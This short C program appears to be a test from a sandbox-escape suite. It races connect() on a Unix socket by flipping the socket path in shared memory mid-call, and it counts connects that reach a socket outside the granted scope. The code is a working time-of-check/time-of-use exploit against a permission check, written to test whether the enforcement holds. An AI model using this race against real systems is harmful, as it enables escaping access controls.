// Changes the path in memory while connect reads it: judged as one socket, connected to another.

#include "attack.h"

int main(void) {
  struct sockaddr_un mine = unix_path(WORK("mine")), foreign = unix_path(target("ATTACK_GIVER"));
  int server = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (server < 0 || bind(server, (struct sockaddr *)&mine, sizeof mine) || listen(server, 64)) refused("bind");
  struct flip flip = {.buffer = shared_page(), .one = &mine, .other = &foreign, .length = sizeof mine};
  start_flip(&flip);
  int wins = 0, granted = 0;
  for (int index = 0; index < TRIES; index++) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) refused("socket");
    if (connect(fd, (struct sockaddr *)flip.buffer, sizeof mine) == 0) {
      struct sockaddr_un peer;
      socklen_t length = sizeof peer;
      bool is_mine = getpeername(fd, (struct sockaddr *)&peer, &length) == 0 && !strcmp(peer.sun_path, mine.sun_path);
      wins += !is_mine;
      granted += is_mine;
      int accepted = accept(server, 0, 0);
      if (accepted >= 0) close(accepted);
    }
    close(fd);
  }
  if (wins) won("%d of %d connects reached a socket outside the scope", wins, TRIES);
  blocked("0 of %d connects reached it; %d the granted one", TRIES, granted);
}
